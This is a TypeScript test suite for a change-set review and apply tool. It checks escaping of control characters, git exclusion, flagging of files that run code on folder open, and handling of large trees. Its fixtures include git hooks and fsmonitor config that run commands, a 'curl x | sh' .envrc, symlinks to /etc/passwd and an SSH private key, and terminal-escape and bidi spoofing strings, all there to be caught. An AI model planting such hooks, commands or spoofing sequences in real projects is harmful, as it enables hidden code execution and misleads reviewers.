// Review cannot be spoofed: what the diff prints is inert, complete (every change apply makes),
// leaves .git out unless asked, flags what runs code on open, and copes with any size.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { join } from 'node:path';
import { applyChangeSet } from './apply.js';
import { loadChangeSet, readChangeSet } from './changeset.js';
import { diffStat, renderDiff, renderReview } from './diff.js';
import { takeManifest, walkEntries } from './manifest.js';
import { removeTree } from './remove.js';
import { fixture, link, mkdir, put, writeList } from './testkit.js';
import type { EntryInfo } from './types.js';

const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f\u0080-\u009f\u202a-\u202e\u2066-\u2069\u{e0000}-\u{e007f}]/u;

test('control characters, bidi overrides and tag characters never reach the output raw', () => {
  const f = fixture();
  try {
    put(f.ws, 'a.txt', 'same\nold\n');
    const m = takeManifest(f.ws);
    put(f.tree, 'a.txt', 'same\nevil \x1b[2K\x1b[1A\r\u202e} if (x) {\u2066\n\u009b31m\x7f\u{e0041}\tok\n');
    put(f.tree, 'name\x1b]0;t\x07\u202e.txt', 'x\n');
    link(f.tree, 'ln', 'to\x1b[2J');
    const out = renderReview(loadChangeSet(f.cs, f.ws, m), f.ws);
    assert.equal(out.match(RAW_CONTROL), null, JSON.stringify(out));
    assert.ok(out.includes('+evil \\x1b[2K\\x1b[1A\\r\\u202e} if (x) {\\u2066\n'), out);
    assert.ok(out.includes('+\\x9b31m\\x7f\\u{e0041}\tok\n'), out);
    assert.ok(out.includes('# a.txt: control characters in it are shown escaped'), out);
    // Names are quoted the way git quotes them (octal bytes), so git apply still reads them.
    assert.ok(out.includes('diff --git "a/name\\033]0;t\\007\\342\\200\\256.txt"'), out);
    assert.ok(out.includes('+to\\x1b[2J\n'), out);
  } finally {
    f.cleanup();
  }
});

/** relpath -> "type mode content-hash" of a tree, to see what apply really changed. */
function snapshot(root: string): Map<string, string> {
  const out = new Map<string, string>();
  for (const [p, e] of walkEntries(root) as Map<string, EntryInfo>) {
    const body =
      e.t === 'f'
        ? createHash('sha256')
            .update(readFileSync(join(root, p)))
            .digest('hex')
        : (e.target ?? '');
    out.set(p, `${e.t} ${(e.mode & 0o777).toString(8)} ${body}`);
  }
  return out;
}

/** Paths the review names: in `diff --git` headers and in `# ...: PATH` lines. */
function mentioned(out: string): Set<string> {
  const names = new Set<string>();
  for (const line of out.split('\n')) {
    const git = /^diff --git a\/(\S+) b\//.exec(line);
    if (git) names.add(git[1]);
    const note = /^# [a-z ]+(?:\([^)]*\))?: (\S+?)\/?(?: |$)/.exec(line);
    if (note) names.add(note[1]);
  }
  return names;
}

test('the diff names every path apply touches: dirs added, deleted, re-moded, replaced; types; modes', () => {
  const f = fixture();
  try {
    put(f.ws, 'edit.txt', 'a\n');
    put(f.ws, 'exe.sh', 'echo\n');
    put(f.ws, 'gone/one.txt', '1\n');
    mkdir(f.ws, 'gone/empty');
    mkdir(f.ws, 'emptygone');
    mkdir(f.ws, 'moded', 0o755);
    put(f.ws, 'moded/keep.txt', 'k\n');
    put(f.ws, 'op/old.txt', 'old\n');
    put(f.ws, 'todir', 'was a file\n');
    put(f.ws, 'tofile/x.txt', 'x\n');
    link(f.ws, 'ln', 'edit.txt');
    const m = takeManifest(f.ws);

    put(f.tree, 'edit.txt', 'b\n');
    put(f.tree, 'exe.sh', 'echo\n', 0o755);
    writeList(f.cs, 'deleted.lst', ['gone', 'emptygone']);
    mkdir(f.tree, 'moded', 0o700);
    mkdir(f.tree, 'newempty', 0o750);
    put(f.tree, 'new/deep/f.txt', 'f\n');
    put(f.tree, 'op/fresh.txt', 'fresh\n');
    writeList(f.cs, 'opaque.lst', ['op']);
    put(f.tree, 'todir/inside.txt', 'in\n');
    put(f.tree, 'tofile', 'now a file\n');
    link(f.tree, 'ln', 'exe.sh');

    const before = snapshot(f.ws);
    const out = renderReview(loadChangeSet(f.cs, f.ws, m), f.ws);
    applyChangeSet(f.cs, f.ws, m);
    const after = snapshot(f.ws);
    const touched = new Set<string>();
    for (const p of new Set([...before.keys(), ...after.keys()])) if (before.get(p) !== after.get(p)) touched.add(p);
    assert.ok(touched.size >= 15, [...touched].join(' '));
    const named = mentioned(out);
    const missing = [...touched].filter((p) => !named.has(p));
    assert.deepEqual(missing, [], out);
    assert.match(out, /# mode of directory: moded\/ 0755 -> 0700/);
    assert.match(out, /# new directory: newempty\/ \(mode 0750\)/);
    assert.match(out, /# deleted directory: emptygone\//);
    assert.match(out, /# replaced directory: op\//);
  } finally {
    f.cleanup();
  }
});

test('a special file in the change set is named, with the fact that apply refuses it', () => {
  const f = fixture();
  try {
    const m = takeManifest(f.ws);
    assert.equal(spawnSync('mkfifo', [join(f.tree, 'pipe')]).status, 0);
    const out = renderDiff(readChangeSet(f.cs, f.ws, m), f.cs, f.ws);
    assert.match(out, /# new special file \(fifo, socket or device\): pipe: apply refuses/);
  } finally {
    f.cleanup();
  }
});

function gitFixture() {
  const f = fixture();
  put(f.ws, '.git/config', '[core]\n');
  put(f.ws, '.git/HEAD', 'ref: refs/heads/main\n');
  put(f.ws, 'README', 'r\n');
  put(f.ws, 'sub/.git', 'gitdir: ../.git/modules/sub\n');
  put(f.ws, 'sub/code.c', 'c\n');
  put(f.ws, 'vendored/.git/HEAD', 'x\n');
  put(f.ws, 'vendored/lib.c', 'l\n');
  const m = takeManifest(f.ws);
  put(f.tree, '.git/hooks/pre-commit', '#!/bin/sh\ntouch /tmp/pwned\n', 0o755);
  put(f.tree, '.git/config', '[core]\n\tfsmonitor = "touch /tmp/pwned; false"\n');
  put(f.tree, 'README', 'r2\n');
  put(f.tree, 'new/.git/config', '[core]\n');
  writeList(f.cs, 'deleted.lst', ['vendored', 'sub/.git']);
  return { f, m };
}

test('.git is left out by default: not reviewed, not applied, not deleted with its directory', () => {
  const { f, m } = gitFixture();
  try {
    const loaded = loadChangeSet(f.cs, f.ws, m);
    const paths = loaded.changes.map((c) => `${c.kind} ${c.path}`);
    // `new` holds only a .git: the directory itself is still made.
    assert.deepEqual(paths, ['modified README', 'added new', 'deleted vendored/lib.c']);
    assert.deepEqual(loaded.gitExcluded, [
      '.git/config',
      '.git/hooks',
      '.git/hooks/pre-commit',
      'new/.git',
      'new/.git/config',
      'sub/.git',
      'vendored',
      'vendored/.git',
      'vendored/.git/HEAD',
    ]);
    assert.ok(![...loaded.tree.keys()].some((p) => p.includes('.git')));
    const out = renderReview(loaded, f.ws);
    assert.match(out, /^# clawpod: 9 changes to \.git .* left out .* --include-git$/m);
    assert.doesNotMatch(out, /diff --git a\/\.git/);
    applyChangeSet(f.cs, f.ws, m);
    assert.equal(readFileSync(join(f.ws, '.git/config'), 'utf8'), '[core]\n');
    assert.equal(readFileSync(join(f.ws, 'vendored/.git/HEAD'), 'utf8'), 'x\n');
    assert.equal(readFileSync(join(f.ws, 'sub/.git'), 'utf8'), 'gitdir: ../.git/modules/sub\n');
    assert.equal(readFileSync(join(f.ws, 'README'), 'utf8'), 'r2\n');
    assert.ok(!walkEntries(f.ws).has('.git/hooks/pre-commit'));
    assert.ok(!walkEntries(f.ws).has('vendored/lib.c'));
  } finally {
    f.cleanup();
  }
});

test('with includeGit, .git changes are reviewed, and hooks and config flagged loudly', () => {
  const { f, m } = gitFixture();
  try {
    const loaded = loadChangeSet(f.cs, f.ws, m, { includeGit: true });
    assert.deepEqual(loaded.gitExcluded, []);
    const loud = loaded.flags.filter((x) => x.loud).map((x) => x.path);
    assert.ok(loud.includes('.git/hooks/pre-commit') && loud.includes('.git/config'), loud.join(' '));
    const out = renderReview(loaded, f.ws);
    const head = out.slice(0, out.indexOf('diff --git'));
    assert.match(head, /^# {3}! \.git\/hooks\/pre-commit \(added\): a git hook/m);
    assert.match(head, /^# {3}! \.git\/config \(modified\): git config/m);
    assert.match(out, /diff --git a\/\.git\/hooks\/pre-commit b\/\.git\/hooks\/pre-commit/);
  } finally {
    f.cleanup();
  }
});

test('files that run code when a tool opens the folder are flagged first', () => {
  const f = fixture();
  try {
    put(f.ws, '.vscode/settings.json', '{}\n');
    const m = takeManifest(f.ws);
    put(f.tree, '.envrc', 'curl x | sh\n');
    put(f.tree, '.vscode/tasks.json', '{"runOn":"folderOpen"}\n');
    writeList(f.cs, 'deleted.lst', ['.vscode/settings.json']);
    put(f.tree, 'pkg/.mcp.json', '{}\n');
    put(f.tree, '.github/workflows/ci.yml', 'on: push\n');
    put(f.tree, 'src/ok.ts', 'x\n');
    link(f.tree, 'escape', '../../etc/passwd');
    link(f.tree, 'abs', '/root/.ssh/id_rsa');
    link(f.tree, 'fine', 'src/ok.ts');
    // A bare repository under another name: git run inside it obeys its config.
    put(f.tree, 'bare/HEAD', 'ref: refs/heads/main\n');
    put(f.tree, 'bare/config', '[core]\n\tfsmonitor = x\n');
    mkdir(f.tree, 'bare/objects');
    const loaded = loadChangeSet(f.cs, f.ws, m);
    const flagged = loaded.flags.map((x) => `${x.kind} ${x.path}`);
    assert.deepEqual(flagged, [
      'added .envrc',
      'added .github/workflows',
      'added .github/workflows/ci.yml',
      'deleted .vscode/settings.json',
      'added .vscode/tasks.json',
      'added abs',
      'added bare/config',
      'added escape',
      'added pkg/.mcp.json',
    ]);
    const out = renderReview(loaded, f.ws);
    assert.ok(out.startsWith('# clawpod: 9 paths below can run code'), out);
  } finally {
    f.cleanup();
  }
});

test('large files are summarised, very different ones shown whole, and nothing is slow', () => {
  const f = fixture();
  try {
    const lines = (n: number, fn: (i: number) => string) => Array.from({ length: n }, (_, i) => fn(i) + '\n').join('');
    put(f.ws, 'big.txt', lines(120_000, String));
    put(f.ws, 'rewrite.txt', lines(10_000, String));
    put(f.ws, 'edit.txt', lines(15_000, String));
    const m = takeManifest(f.ws);
    put(
      f.tree,
      'big.txt',
      lines(120_000, (i) => (i === 5000 ? 'five thousand' : String(i))),
    );
    put(f.tree, 'new.txt', lines(200_000, String));
    put(
      f.tree,
      'rewrite.txt',
      lines(10_000, (i) => `x${i * 7}`),
    );
    put(
      f.tree,
      'edit.txt',
      lines(15_000, (i) => (i === 7 ? 'seven' : String(i))),
    );
    const t0 = Date.now();
    const loaded = loadChangeSet(f.cs, f.ws, m);
    const out = renderReview(loaded, f.ws);
    const ms = Date.now() - t0;
    assert.ok(ms < 10_000, `${ms} ms`);
    const show = Object.fromEntries(loaded.changes.map((c) => [c.path, `${c.show} +${c.insertions} -${c.deletions}`]));
    assert.deepEqual(show, {
      'big.txt': 'summary +undefined -undefined',
      'edit.txt': 'lines +1 -1',
      'new.txt': 'summary +200000 -0',
      'rewrite.txt': 'whole +10000 -10000',
    });
    assert.match(
      out,
      /# big\.txt: too large to show \(old: 120000 lines, \d+ bytes; new: 120000 lines, \d+ bytes\); changed lines not counted; review it with an editor: \S+big\.txt/,
    );
    assert.match(out, /# new\.txt: too large to show \(old: none; new: 200000 lines, \d+ bytes\); \+200000 -0/);
    assert.match(out, /# rewrite\.txt: too different to diff line by line/);
    assert.match(out, /^-seven$|^\+seven$/m);
    assert.equal(diffStat(loaded.changes).summary, '4 files changed, 210001 insertions(+), 10001 deletions(-) (1 too large to count)');
  } finally {
    f.cleanup();
  }
});

test('a change set too deep for the host, or with a non-UTF-8 name, is refused in one line', () => {
  const f = fixture();
  try {
    const m = takeManifest(f.ws);
    let rel = '';
    for (let i = 0; i < 1900; i++) rel += (rel ? '/' : '') + 'd';
    mkdirSync(join(f.tree, rel), { recursive: true });
    put(f.tree, rel + '/ok.txt', 'ok\n');
    // 1900 levels fit in PATH_MAX: read fine, without recursion.
    assert.equal(readChangeSet(f.cs, f.ws, m).length, 1901);
    writeFileSync(Buffer.concat([Buffer.from(join(f.tree, rel) + '/bad'), Buffer.from([0xff, 0xfe])]), 'x');
    assert.throws(
      () => readChangeSet(f.cs, f.ws, m),
      (e: Error) => {
        assert.match(e.message, /^the change set holds d\/d\/.*\.\.\..*bad.*: its name is not valid UTF-8; .*\(discard the run\)$/);
        assert.ok(e.message.length < 400, e.message);
        return true;
      },
    );
  } finally {
    removeTree(f.base); // fs.rmSync (in cleanup) overflows its stack on this tree
  }
});
